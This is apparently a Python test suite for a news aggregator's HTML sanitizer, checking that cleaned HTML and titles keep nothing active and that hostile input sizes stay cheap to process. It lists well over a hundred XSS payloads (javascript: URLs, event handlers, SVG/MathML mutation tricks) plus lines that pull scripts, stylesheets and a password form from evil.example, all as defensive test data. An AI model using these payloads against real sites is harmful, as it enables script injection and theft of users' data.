"""Nothing active leaves clean_html and clean_title; visible_text never raises and stays linear."""

from __future__ import annotations

import re
import time
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import html as lxml_html

from aggregator.html import clean_html, clean_title, text_to_html, too_tangled, visible_text

BASE = "https://news.example/a/b.html"

_JAVASCRIPT = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "\njavascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript:alert(1)",
    "java\x01script:alert(1)",
    "\x01javascript:alert(1)",
    "\x1fjavascript:alert(1)",
    "java\x7fscript:alert(1)",
    "java\ufffdscript:alert(1)",
    "java\ud800script:alert(1)",
    "java\ufffescript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6a;avascript:alert(1)",
    "&#0000106avascript:alert(1)",
    "&#x6A&#x61vascript:alert(1)",
    "javascript&colon;alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "&#1;javascript:alert(1)",
    "&#14;javascript:alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#0058alert(1)",
    "javascript://news.example/%0aalert(1)",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "DATA:text/html,x",
    "blob:https://news.example/x",
    "file:///etc/passwd",
    "view-source:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "jar:javascript:alert(1)!/",
    "ws://x/",
]
_IN_ATTRIBUTES = [
    '<a href="{}">x</a>',
    "<a href='{}'>x</a>",
    "<a href={}>x</a>",
    '<img src="{}">',
    '<video src="{}" poster="{}"></video>',
    '<audio src="{}"></audio>',
    '<video><source src="{}"><track src="{}"></video>',
    '<blockquote cite="{}">x</blockquote>',
    '<q cite="{}">x</q><ins cite="{}">x</ins><del cite="{}">x</del>',
    '<area href="{}"><map><area href="{}"></map>',
    '<a xlink:href="{}" ping="{}">x</a>',
    '<table background="{}"><tr><td background="{}">x</table>',
    '<picture><source srcset="{} 2x"><img srcset="{}" src="x.png"></picture>',
    '<img src="x.png" longdesc="{}" usemap="{}" lowsrc="{}" dynsrc="{}">',
]
ATTACKS = [template.replace("{}", url) for template in _IN_ATTRIBUTES for url in _JAVASCRIPT]
ATTACKS += '''
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1)//<</script>
<script/xss src="x">alert(1)</script>
<script>alert(1)
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)" onload='alert(1)'>
<img/src=x/onerror=alert(1)>
<img src="x` `<script>alert(1)</script>"` `>
<img """><script>alert(1)</script>">
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:alert(1)></svg>
<svg><use href="data:image/svg+xml,x#y"></use></svg>
<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>
<math><mi><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mi></math>
<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math href="javascript:alert(1)">x</math>
<style>@import url(//evil.example/x.css);</style>
<style>body{background:url(javascript:alert(1))}</style>
<link rel=stylesheet href=//evil.example/x.css>
<div style="background:url(javascript:alert(1))">x</div>
<div style="width:expression(alert(1))">x</div>
<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>
<p style=behavior:url(#default#time2)>x</p>
<iframe src="https://evil.example/"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<frameset><frame src=javascript:alert(1)></frameset>
<form action=//evil.example/><input name=password><button formaction=javascript:alert(1)>x</form>
<button onclick=alert(1)>x</button>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)><option>x</select>
<textarea autofocus onfocus=alert(1)>x</textarea>
<keygen autofocus onfocus=alert(1)>
<isindex action=javascript:alert(1) type=image>
<object data="javascript:alert(1)"></object>
<object><param name=movie value=//evil.example/x.swf><embed src=//evil.example/x.swf></object>
<embed src="data:text/html,<script>alert(1)</script>">
<applet code=x.class></applet>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta charset=utf-7>
<base href="javascript:alert(1)//">
<base target=_top>
<body onload=alert(1)>
<body background="javascript:alert(1)">
<html onmouseover=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<details open ontoggle=alert(1)>x</details>
<video onerror=alert(1)><source onerror=alert(1)></video>
<audio src=x autoplay onplay=alert(1)></audio>
<a href=x onclick=alert(1)>x</a>
<a href="x" OnMouseOver="alert(1)">x</a>
<a/onclick=alert(1)>x</a>
<a href="x" target=_blank rel=opener>x</a>
<p oncopy=alert(1) onpaste=alert(1)>x</p>
<p/onpointerover=alert(1)>x
<x onclick=alert(1)>x</x>
<x-evil onclick=alert(1)>x</x-evil>
<template><script>alert(1)</script></template>
<template><img src=x onerror=alert(1)></template>
<portal src=https://evil.example/></portal>
<dialog open onclose=alert(1)>x</dialog>
<menu><menuitem onclick=alert(1)></menu>
<xmp><img src=x onerror=alert(1)></xmp>
<noembed><img src=x onerror=alert(1)></noembed>
<noframes><img src=x onerror=alert(1)></noframes>
<plaintext><img src=x onerror=alert(1)>
<listing><img src=x onerror=alert(1)></listing>
<title><img src=x onerror=alert(1)></title>
<textarea><img src=x onerror=alert(1)></textarea>
<!--><img src=x onerror=alert(1)>-->
<!--[if IE]><script>alert(1)</script><![endif]-->
<!-- --!><img src=x onerror=alert(1)> -->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml-stylesheet href="javascript:alert(1)"?>
<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;
<a id=x tabindex=1 onfocus=alert(1) contenteditable>x</a>
<p id=location name=cookie class=admin>x</p>
<img src=x:alert(1) onerror=eval(src)>
<a href="//evil.example/x">x</a>
<table><tr><td><script>alert(1)</script></table>
<select><style></select><img src=x onerror=alert(1)></style>
<p><svg><desc><img src=x onerror=alert(1)></desc></svg>
<b><noscript><a alt="</noscript><img src=x onerror=alert(1)>">
<a href="https://x.example/" style="x" onx="y" srcdoc="z" formaction="q">x</a>
<slot onslotchange=alert(1)><style>*{}</style></slot>
<img src="https://x.example/a.png" onerror&#61;alert(1)>
<p>\x00<script\x00>alert(1)</script\x00>
<scr\x00ipt>alert(1)</scr\x00ipt>
<\x00script>alert(1)</script>
<img src=x on\x00error=alert(1)>
'''.strip().splitlines()

_ALLOWED_URL = re.compile(r"(?:https?|mailto|tel|magnet|geo|xmpp|ircs?|news):", re.I)
_URL_ATTRIBUTES = {"href", "src", "poster", "cite", "data", "action", "background", "srcset"}
_PASSIVE_ATTRIBUTES = set(
    "href hreflang src alt title width height controls preload poster type kind srclang label rel "
    "align char charoff span colspan rowspan headers scope start dir size datetime lang".split()
)
_FORBIDDEN = set(
    "script style iframe frame frameset form input button select option textarea object embed "
    "applet param link meta base svg math template noscript portal dialog slot body html head "
    "noembed noframes xmp plaintext listing marquee keygen isindex".split()
)


def active_parts(cleaned: str) -> list[str]:
    """What of some cleaned HTML could act, or lead out of its place, in a browser."""
    found: list[str] = []
    if not cleaned.strip():
        return found
    for element in lxml_html.fragment_fromstring(cleaned, create_parent="div").iter():
        if not isinstance(element.tag, str):
            found.append("a comment or processing instruction")
            continue
        if element.tag.lower() in _FORBIDDEN:
            found.append(f"<{element.tag}>")
        for name, value in element.attrib.items():
            if name not in _PASSIVE_ATTRIBUTES:
                found.append(f"{element.tag} {name}")
            elif name in _URL_ATTRIBUTES and not _ALLOWED_URL.match(value):
                found.append(f"{element.tag} {name}={value}")
    return found


@pytest.mark.parametrize("base", [BASE, None, "nonsense", "javascript:alert(1)", "data:text/html,"])
def test_attacks_leave_nothing_active(base: str | None) -> None:
    assert len(ATTACKS) > 100
    left = {
        attack: parts for attack in ATTACKS if (parts := active_parts(clean_html(attack, base)))
    }
    assert left == {}


def test_attacks_leave_nothing_active_in_titles() -> None:
    left = {attack: parts for attack in ATTACKS if (parts := active_parts(clean_title(attack)))}
    assert left == {}
    for attack in ATTACKS:
        cleaned = clean_title(attack)
        assert not re.search(r"<(?:a|img|p|div|video|table|br)\b", cleaned), attack
        assert not re.search(r"<\w+\s", cleaned), "no attributes in a title"


def test_the_checker_finds_what_is_active() -> None:
    for bad in ('<a href="javascript:x">', "<p onclick=x>", "<script></script>", '<a href="/x">'):
        assert active_parts(bad), bad


@given(st.lists(st.sampled_from(ATTACKS) | st.text(max_size=20), max_size=6).map("".join))
def test_joined_attacks_leave_nothing_active(attack: str) -> None:
    assert active_parts(clean_html(attack, BASE)) == []
    assert active_parts(clean_title(attack)) == []


@given(st.text())
def test_cleaning_never_raises_and_cleans_once_for_all(text: str) -> None:
    once = clean_html(text, BASE)
    assert clean_html(once, BASE) == once
    clean_title(text)


def test_relative_addresses_are_resolved_against_the_base() -> None:
    html = (
        '<a href="../c">x</a><img src="d.png"><video poster="/e.png" src="//cdn.example/f"></video>'
    )
    cleaned = clean_html(html, BASE)
    for address in (
        'href="https://news.example/c"',
        'src="https://news.example/a/d.png"',
        'poster="https://news.example/e.png"',
        'src="https://cdn.example/f"',
    ):
        assert address in cleaned
    assert "href" not in clean_html('<a href="../c">x</a>')


def test_what_people_read_survives() -> None:
    for html in (
        "<p>国内<b>要闻</b><br><i>x</i></p>",
        '<video src="https://x.example/a.mp4" controls=""></video>',
        '<audio controls=""><source src="https://x.example/a.mp3" type="audio/mpeg"></audio>',
        '<img src="https://x.example/a.png" alt="图" width="3">',
        '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>',
        "<pre><code>a &lt; b</code></pre>",
        "<blockquote>x</blockquote>",
        '<ol start="3"><li>x</li></ol>',
        "<ruby>漢<rt>かん</rt></ruby>",
    ):
        assert clean_html(html, BASE) == html


def test_characters_xml_refuses_are_gone() -> None:
    dirty = "a\x00\x08\x0b\x1f\x7f\x9f\ud800\ufffe\uffff&#0;&#8;&#xd800;&#xffff;&#x9f;z"
    for cleaned in (clean_html(dirty), clean_title(dirty)):
        assert not re.search(
            "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x84\x86-\x9f\ud800-\udfff\ufffe\uffff]", cleaned
        )
        assert "\ufffd" not in cleaned


# ---------------------------------------------------------------- hostile sizes

QUARTER_MEGABYTE = 2**18
_BOMBS = """
<div> <b> <p><b> <a> <a><div> <table>
<table>a<tr>b<td> <ul><li> <font\u2002color=x><p> <svg> <math><mi> </b> <form> <select>
<!-- <! <? </ < & &# &#x &amp &lt;
<a\u2002href=' <a\u2002href=" <a\u2002x="> <script> </script <script></ <style><!-- <title> =" ='>
"><a\u2002b=" <br> <x> \u0301 <![CDATA[ <button><p> <object><div></object> <b></i> <nobr> <ruby><rt>
""".split()
BOMBS = [(bomb.replace("\u2002", " ") * (QUARTER_MEGABYTE // len(bomb))) for bomb in _BOMBS]
BOMBS += [
    "<a " + " ".join(f"x{n}=1" for n in range(100_000)) + ">",
    "<a " + "/".join(f"x{n}" for n in range(100_000)) + ">",
    '<a t="' + ">" * 9000 + '" ' + " ".join(f"x{n}=1" for n in range(100_000)) + ">",
    "".join(f"<font color=c{n}><p>" for n in range(40_000)),
    "".join(f"<font color=c{n}>" for n in range(250)) + "<p>x</p>" * 100_000,
    "".join(f"<font color=c{n}>" for n in range(40_000)) + "</b>" * 100_000,
    "<div>" * 20_000 + "</b>" * 200_000,
    "&#" + "9" * QUARTER_MEGABYTE + ";",
    "&#x" + "f" * QUARTER_MEGABYTE + ";",
]


def seconds(function: Callable[[str], str], text: str) -> float:
    started = time.process_time()
    function(text)
    return time.process_time() - started


@pytest.mark.parametrize("bomb", BOMBS, ids=lambda bomb: repr(bomb[:12]))
def test_a_quarter_megabyte_of_anything_costs_little(bomb: str) -> None:
    # Plain work takes up to 0.1 s; what is quadratic takes many seconds.
    for function in (visible_text, clean_html, clean_title):
        assert seconds(function, bomb) < 3, function.__name__
    assert len(clean_html(bomb)) < 12 * len(bomb) + 1000


def test_what_is_too_tangled_is_shown_as_its_text() -> None:
    deep = "<div>" * 400 + "text &amp; <b>more</b>" + "</div>" * 400
    assert too_tangled(deep)
    assert clean_html(deep) == "<p>text &amp; more</p>"
    assert clean_title(deep) == "text &amp; more"


def test_ordinary_long_pages_are_not_too_tangled() -> None:
    page = '<div class="a"><ul>' + "<li><p>x <a href='/y'>y</a><br>" * 5000 + "</ul></div>"
    assert not too_tangled(page)
    assert not too_tangled("<p>" + "plain words = many / more > " * 20_000)
    table = "<table>" + "<tr><td>a<td><b>c</b>" * 5000 + "</table>"
    assert not too_tangled(table)
    assert not too_tangled('<img src="data:image/png;base64,' + "A/=" * 100_000 + '">')
    assert not too_tangled('<p title="' + "many words " * 5000 + '">x</p>')


# ---------------------------------------------------------------- visible text


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("", ""),
        ("plain", "plain"),
        ("a &amp; b &lt;c&gt; &nbsp; d", "a & b <c> d"),
        ("<p>a</p><p>b</p>", "a b"),
        ("a<br>b<br/>c", "a b c"),
        ("国<b>内</b>", "国内"),
        ("a<script>x</script>b<style>y</style>c", "abc"),
        ("a<!-- x -->b", "ab"),
        ("a<!-- x", "a"),
        ("1 < 2 and 3 > 2", "1 < 2 and 3 > 2"),
        ("a <3 b", "a <3 b"),
        ('<a title="x > y">b</a>', "b"),
        ("<a title='it''s'>b</a>", "b"),
        ('<p class="x>b</p>', "b"),
        ("<ul><li>a<li>b</ul>", "a b"),
        ("<td>a</td><td>b</td>", "a b"),
        ("<script>if (a </b) x</script>y", "y"),
        ("<SCRIPT>x</Script >y", "y"),
        ("a<b", "a<b"),
        ("&#20013;&#x56fd;", "中国"),
        ("&#" + "0" * 20 + "65;", "A"),
        ("<![CDATA[x]]>", ""),
    ],
)
def test_visible_text(html: str, text: str) -> None:
    assert visible_text(html) == text


@given(st.text(alphabet="<>/!-=\"'& ;#ab", max_size=200))
def test_visible_text_never_raises_on_broken_markup(text: str) -> None:
    shown = visible_text(text)
    assert shown == shown.strip()


@given(st.text(alphabet="ab<>&;#'\"中 \n"))
def test_plain_text_as_html_shows_as_itself(text: str) -> None:
    assert visible_text(text_to_html(text)) == " ".join(text.split())
